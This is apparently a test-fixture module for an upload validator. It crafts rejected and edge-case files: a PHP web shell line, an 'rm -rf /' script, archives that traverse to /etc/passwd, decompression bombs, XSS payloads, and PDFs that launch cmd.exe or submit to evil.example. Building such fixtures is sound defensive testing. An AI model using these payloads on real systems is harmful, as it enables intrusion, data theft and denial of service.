"""Files that nobody should take for photos or papers, and odd ones that are both: made here, byte by byte."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter

from tests.factories.shop import pdf

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
SECRET_PLACE = b"nha ba Sau"


@dataclass(frozen=True)
class File:
    """A file as a person might send it: a word for the test, its name, how its bytes are made."""

    id: str
    name: str
    make: Callable[[], bytes]


def encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    """The image in a format."""
    target = io.BytesIO()
    image.save(target, kind, **options)
    return target.getvalue()


def noise(kind: str, mode: str = "RGB", **options: object) -> bytes:
    """A photo that hardly compresses."""
    return encoded(Image.effect_noise((160, 120), 70).convert(mode), kind, **options)


def flat(kind: str, size: tuple[int, int], mode: str = "L", **options: object) -> bytes:
    """One tone, as large as the size says and small as a file."""
    return encoded(Image.new(mode, size), kind, **options)


def chunk(kind: bytes, data: bytes) -> bytes:
    """One part of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with(extra: bytes, *, after: int = 33) -> bytes:
    """A PNG with another part behind its header."""
    data = noise("PNG")
    return data[:after] + extra + data[after:]


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims a size and has next to no pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 99)) + chunk(b"IEND", b"")


def jpeg_header(width: int, height: int) -> bytes:
    """A JPEG that claims a size."""
    data = bytearray(noise("JPEG"))
    place = data.index(b"\xff\xc0")
    data[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_header(width: int, height: int) -> bytes:
    """A WebP of which the outermost part claims a size."""
    exif = Image.Exif()
    exif[0x010E] = "x"
    data = bytearray(noise("WEBP", exif=exif))
    data[24:30] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return bytes(data)


def moving(kind: str, frames: int) -> bytes:
    """A picture that moves."""
    pictures = [Image.new("RGB", (8, 8), (number % 256, number // 4 % 256, 0)) for number in range(frames)]
    return encoded(pictures[0], kind, save_all=True, append_images=pictures[1:])


def many_scans(times: int = 5000) -> bytes:
    """A progressive JPEG that is decoded thousands of times before it is whole."""
    data = flat("JPEG", (8000, 5000), progressive=True)
    scan = data[data.rfind(b"\xff\xda") : -2]
    return data[:-2] + scan * times + data[-2:]


def archive(name: str, content: bytes, members: int = 1) -> bytes:
    """A ZIP file."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as whole:
        for number in range(members):
            whole.writestr(f"{number}/{name}", content)
    return target.getvalue()


def tar() -> bytes:
    """A TAR file that leads out of its folder."""
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w:gz") as whole:
        whole.addfile(tarfile.TarInfo("../../etc/passwd"))
    return target.getvalue()


def located() -> bytes:
    """A phone's photo that says where it was taken."""
    exif = Image.Exif()
    exif[0x010E] = SECRET_PLACE.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (20.0, 57.0, 0.0), 3: "E", 4: (107.0, 5.0, 0.0)})
    return noise("JPEG", exif=exif, comment=SECRET_PLACE)


def with_text() -> bytes:
    """A PNG with a program in a comment."""
    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", HTML.decode())
    info.add_text("Comment", SECRET_PLACE.decode())
    return noise("PNG", pnginfo=info)


def locked_pdf() -> bytes:
    """A PDF that opens with a password only."""
    writer, target = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    writer.encrypt("bi mat", algorithm="RC4-128")
    writer.write(target)
    return target.getvalue()


def pdf_bomb() -> bytes:
    """A PDF of which the table of contents unpacks to 400 MB."""
    packed = zlib.compress(bytes(400_000_000), 1)
    head = b"%PDF-1.5\n"
    stream = f"1 0 obj\n<</Type/XRef/Size 9/W[1 4 2]/Root 2 0 R/Filter/FlateDecode/Length {len(packed)}>>stream\n"
    return head + stream.encode() + packed + f"\nendstream\nendobj\nstartxref\n{len(head)}\n%%EOF\n".encode()


def pdf_pages(kids: str, count: int) -> bytes:
    """A PDF whose tree of pages is wrong."""
    return pdf().replace(b"/Kids[3 0 R]/Count 1", f"/Kids[{kids}]/Count {count}".encode())


JS = "<</S/JavaScript/JS(app.alert(1))>>"


def part_of(kind: str, part: float) -> Callable[[], bytes]:
    """The beginning of a photo."""
    return lambda: noise(kind)[: max(4, int(len(noise(kind)) * part))]


NO_FILE_FOR_US = [
    File("empty", "anh.jpg", lambda: b""),
    File("one byte", "anh.jpg", lambda: b"\xff"),
    File("text", "anh.jpg", "chào bạn".encode),
    File("html", "anh.jpg", lambda: HTML),
    File("html with a picture's beginning", "anh.jpg", lambda: b"\xff\xd8\xff" + HTML),
    File("svg", "logo.svg", lambda: SVG),
    File("svg as png", "logo.png", lambda: b'<?xml version="1.0"?>' + SVG),
    File("svgz", "logo.svgz", lambda: gzip.compress(SVG)),
    File("php", "anh.php.jpg", lambda: b"<?php system($_GET[0]); ?>"),
    File("shell", "anh.jpg", lambda: b"#!/bin/sh\nrm -rf /\n"),
    File("program", "anh.exe", lambda: b"MZ\x90\0" + bytes(200)),
    File("elf", "anh.jpg", lambda: b"\x7fELF\x02\x01" + bytes(200)),
    File("gif", "anh.gif", lambda: noise("GIF", "P")),
    File("gif and script", "anh.jpg", lambda: b"GIF89a=1;alert(1)//"),
    File("bmp", "anh.bmp", lambda: noise("BMP")),
    File("tiff", "anh.tif", lambda: noise("TIFF")),
    File("ico", "anh.ico", lambda: flat("ICO", (16, 16), "RGBA")),
    File("avif", "anh.avif", lambda: noise("AVIF")),
    File("ppm", "anh.jpg", lambda: noise("PPM")),
    File("eps", "anh.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n"),
    File("heic", "IMG_0001.HEIC", lambda: b"\0\0\0\x18ftypheic" + bytes(99)),
    File("mp4", "anh.jpg", lambda: b"\0\0\0\x18ftypmp42" + bytes(99)),
    File("wave", "anh.webp", lambda: b"RIFF\x24\0\0\0WAVEfmt " + bytes(40)),
    File("zip", "giay.zip", lambda: archive("a.txt", b"a")),
    File("docx bomb", "giay.docx", lambda: archive("word/document.xml", bytes(20_000_000), 3)),
    File("xlsx bomb", "gia.xlsx", lambda: archive("xl/worksheets/sheet1.xml", bytes(20_000_000), 3)),
    File("pdf that is a zip bomb", "giay.pdf", lambda: archive("giay.pdf", bytes(20_000_000), 3)),
    File("zip leading out", "giay.pdf", lambda: archive("../../../etc/passwd", b"x")),
    File("tar leading out", "giay.pdf", tar),
    File("gzip bomb", "giay.pdf", lambda: gzip.compress(bytes(50_000_000))),
    *(File(f"{kind} cut at {part}", f"anh.{kind}", part_of(kind, part)) for kind in ("JPEG", "PNG", "WEBP")
      for part in (0.0, 0.02, 0.5, 0.9)),
    File("jpeg garbage", "anh.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)) * 20),
    File("png wrong sum", "anh.png", lambda: noise("PNG").replace(b"IDAT", b"IDAT", 1)[:-20] + bytes(20)),
    File("png garbage", "anh.png", lambda: png_header(60, 40)),
    File("png bomb", "anh.png", lambda: flat("PNG", (14000, 14000), "1")),
    File("png claims 4 gigapixels", "anh.png", lambda: png_header(65535, 65535)),
    File("png claims 2^31", "anh.png", lambda: png_header(2**31 - 1, 2**31 - 1)),
    File("jpeg claims 4 gigapixels", "anh.jpg", lambda: jpeg_header(65535, 65535)),
    File("webp claims 268 megapixels", "anh.webp", lambda: webp_header(16383, 16383)),
    File("png over the limit", "anh.png", lambda: flat("PNG", (6001, 4000), "1")),
    File("webp over the limit", "anh.webp", lambda: flat("WEBP", (4001, 3000))),
    File("jpeg over the limit", "anh.jpg", lambda: flat("JPEG", (8001, 5000))),
    File("png of 1000 frames", "anh.png", lambda: moving("PNG", 1000)),
    File("webp of 1000 frames", "anh.webp", lambda: moving("WEBP", 1000)),
    File("png claims 1000 frames", "anh.png", lambda: png_with(chunk(b"acTL", struct.pack(">II", 1000, 0)))),
    File("jpeg of 5000 scans", "anh.jpg", many_scans),
    File("png text bomb", "anh.png", lambda: png_with(chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(50_000_000))))),
    File("png profile bomb", "anh.png", lambda: png_with(chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(50_000_000))))),
    File("too many bytes", "anh.jpg", lambda: noise("JPEG") + bytes(10_000_000)),
    File("pdf head only", "giay.pdf", lambda: b"%PDF-1.7\n"),
    File("pdf of nothing", "giay.pdf", lambda: b"%PDF-1.7\n" + bytes(500) + b"\n%%EOF\n"),
    File("pdf cut", "giay.pdf", lambda: pdf()[:-60]),
    File("pdf behind html", "giay.pdf", lambda: HTML + pdf()),
    File("pdf opening a program", "giay.pdf", lambda: pdf(OpenAction=JS)),
    File("pdf with a program among its names", "giay.pdf", lambda: pdf(Names=f"<</JavaScript<</Names[(a) {JS}]>>>>")),
    File("pdf with a disguised program", "giay.pdf", lambda: pdf(OpenAction="<</S/J#61vaScript/J#53(app.alert(1))>>")),
    File("pdf that starts a program", "giay.pdf", lambda: pdf(OpenAction="<</S/Launch/F(cmd.exe)>>")),
    File("pdf that sends a form", "giay.pdf", lambda: pdf(AA="<</WC<</S/SubmitForm/F(http://evil.example)>>>>")),
    File("pdf with a password", "giay.pdf", locked_pdf),
    File("pdf without pages", "giay.pdf", lambda: pdf_pages("", 0)),
    File("pdf whose pages go round", "giay.pdf", lambda: pdf_pages("2 0 R", 1)),
    File("pdf bomb", "giay.pdf", pdf_bomb),
]  # fmt: skip

PLAIN_PDF = File("plain pdf", "giay.pdf", pdf)

ODD_BUT_FINE = [
    File("located", "IMG_0001.JPG", located),
    File("name in pieces", "a\u0309nh cha\u0309 mu\u031b\u0323c.jpg", lambda: noise("JPEG")),
    File("name from right to left", "anh\u202egpj.exe", lambda: noise("JPEG")),
    File("name leading out", "../../../etc/passwd", lambda: noise("JPEG")),
    File("name leading out of Windows", "..\\..\\windows\\anh.jpg", lambda: noise("JPEG")),
    File("long name", "ả" * 300 + ".jpg", lambda: noise("JPEG")),
    File("no extension", "anh", lambda: noise("JPEG")),
    File("other extension", "anh.txt", lambda: noise("PNG")),
    File("program's extension", "anh.exe", lambda: noise("WEBP")),
    File("name with markup", "<img src=x onerror=alert(1)>.jpg", lambda: noise("JPEG")),
    File("cmyk", "anh.jpg", lambda: noise("JPEG", "CMYK")),
    File("16 bits", "anh.png", lambda: flat("PNG", (90, 60), "I;16")),
    File("palette", "anh.png", lambda: noise("PNG", "P", transparency=3)),
    File("profile that is none", "anh.jpg", lambda: noise("JPEG", icc_profile=b"khong phai ICC" * 20)),
    File("photo and zip", "anh.jpg", lambda: noise("JPEG") + archive("a.html", HTML)),
    File("photo and html", "anh.jpg", lambda: noise("JPEG", comment=HTML)),
    File("text inside", "anh.png", with_text),
    File("progressive", "anh.jpg", lambda: noise("JPEG", progressive=True)),
    File("nine frames", "anh.png", lambda: moving("PNG", 9)),
    File("one pixel", "anh.png", lambda: flat("PNG", (1, 1))),
    File("strip", "anh.png", lambda: flat("PNG", (9000, 2))),
]
